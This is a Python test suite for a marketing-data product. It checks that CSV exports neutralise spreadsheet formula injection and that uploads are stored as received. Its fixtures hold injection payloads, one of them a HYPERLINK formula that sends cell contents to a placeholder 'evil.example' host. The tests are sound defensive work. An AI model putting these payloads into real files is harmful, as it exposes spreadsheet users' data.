"""CSV formula injection: every CSV the product writes neutralises formula-leading text cells (one helper,
delivr_admin.csvsafe); the list import keeps values as uploaded; numbers stay numbers."""

import csv
import io

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile

from audiences import engine
from audiences.models import ContactList
from delivr_admin import csvsafe

DUCKDB = engine.DuckDBEngine()  # the embedded backend these tests exercise

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_csvsafe_forms_agree_on_every_prefix_and_leave_the_rest():
    values = [*HOSTILE, "plain", "a=b", "", None]
    expected = [("'" + v) for v in HOSTILE] + ["plain", "a=b", "", None]
    assert [csvsafe.cell(v) for v in values] == expected
    batch = pa.record_batch([pa.array(values), pa.array(range(-5, 5))], names=["text", "number"])
    safe = csvsafe.arrow_batch(batch)
    assert safe.column(0).to_pylist() == expected
    assert safe.column(1).to_pylist() == list(range(-5, 5))  # negative numbers stay numbers
    tbl = pa.table({"text": values})  # noqa: F841 - read by DuckDB by name
    got = duckdb.sql(f"SELECT {csvsafe.sql_text('text')} FROM tbl").fetchall()
    assert [g[0] for g in got] == expected
    assert csvsafe.cell(-3) == -3 and csvsafe.cell(1.5) == 1.5


def test_engine_csv_unload_and_stream_neutralise_text_but_not_numbers(tmp_path):
    data = tmp_path / "flat"
    data.mkdir()
    pq.write_table(
        pa.table({"name": HOSTILE + ["ok"], "amount": [-1, -2, 3, -4, 5, -6, 7]}), data / "part-0.parquet"
    )
    sel = engine.Selection(input_path=str(data))
    out = tmp_path / "out.csv"
    assert DUCKDB.unload(sel, None, "csv", str(out)) == 7
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode(), newline="")))
    assert [r["name"] for r in rows] == ["'" + v for v in HOSTILE] + ["ok"]
    assert [r["amount"] for r in rows] == ["-1", "-2", "3", "-4", "5", "-6", "7"]
    streamed = b"".join(DUCKDB.write_csv_stream(engine.Selection(input_path=str(data), columns=("name",))))
    assert list(csv.reader(io.StringIO(streamed.decode())))[1] == ["'" + HOSTILE[0]]
    parquet = tmp_path / "out.parquet"
    DUCKDB.unload(sel, None, "parquet", str(parquet))
    assert pq.read_table(parquet).column("name").to_pylist()[:6] == HOSTILE  # only CSV is neutralised


def _upload(tenant, content: str):
    f = SimpleUploadedFile("leads.csv", content.encode(), "text/csv")
    return tenant.key().post(
        "/api/v1/lists",
        {"file": f, "name": "Leads", "type": "contacts", "project_id": str(tenant.project.id)},
        format="multipart",
    )


def test_list_import_keeps_values_as_uploaded_and_download_neutralises(tenant):
    content = (
        "email,first_name,last_name,person_id,job_title\n"
        'ann@acme.io,"\t=1",=HYPERLINK("http://evil"),p1,@SUM(A1)\n'
        "bob@acme.io,+cmd,-2,p2,ok\n"
        "=cmd@evil,Eve,X,p3,x\n"
    )
    body = _upload(tenant, content).json()
    contact_list = ContactList.objects.get(pk=body["id"])
    stored = pq.read_table(default_storage.path(contact_list.file_name)).to_pylist()
    assert [(r["first_name"], r["last_name"], r["job_title"]) for r in stored] == [
        ("\t=1", '=HYPERLINK("http://evil")', "@SUM(A1)"),
        ("+cmd", "-2", "ok"),
    ]
    audience = (
        tenant.key()
        .post(
            "/api/v1/audiences",
            {"project_id": str(tenant.project.id), "name": "Leads", "contact_list_id": body["id"]},
            format="json",
        )
        .json()
    )
    r = tenant.key().get(f"/api/v1/audiences/{audience['id']}/download?project_id={tenant.project.id}")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode())))
    # one row per person, in no promised order
    assert sorted((r["first_name"], r["last_name"], r["job_title"]) for r in rows) == sorted(
        [("'\t=1", '\'=HYPERLINK("http://evil")', "'@SUM(A1)"), ("'+cmd", "'-2", "ok")]
    )
    report = tenant.key().get(f"/api/v1/lists/{body['id']}/reports/invalid")
    cells = list(csv.reader(io.StringIO(b"".join(report.streaming_content).decode())))
    assert cells[1][2] == "'=cmd@evil"


def test_campaign_csv_neutralises_names_from_the_dsp(client, tenant):
    from tests.campaigns.factories import make_campaign

    make_campaign(tenant.org, name='=HYPERLINK("http://evil")', days=3)
    client.force_login(tenant.user)
    r = client.get("/campaigns/overview.csv", {"from": "2026-01-01", "to": "2026-01-03"})
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode())))
    assert rows and rows[0]["campaign"] == '\'=HYPERLINK("http://evil")'
    assert int(rows[0]["impressions"]) >= 0


def test_file_export_csv_neutralises_text_cells(tenant, tmp_path):
    from exports.destinations.base import BatchContext
    from exports.destinations.file import FileDestination

    destination = FileDestination({"format": "csv", "path_prefix": "x"}, {})
    context = BatchContext(run_id="r1", export_id="e1", batch_index=0, organization_id=str(tenant.org.id))
    destination.open(context)
    batch = pa.record_batch([pa.array(["@evil", "ok"]), pa.array([-1, 2])], names=["Name", "Score"])
    destination.write_batch(batch, context)
    result = destination.close(context, success=True)
    with default_storage.open(result["file_name"]) as fh:
        rows = list(csv.reader(io.StringIO(fh.read().decode())))
    assert rows[1:] == [["'@evil", "-1"], ["ok", "2"]]
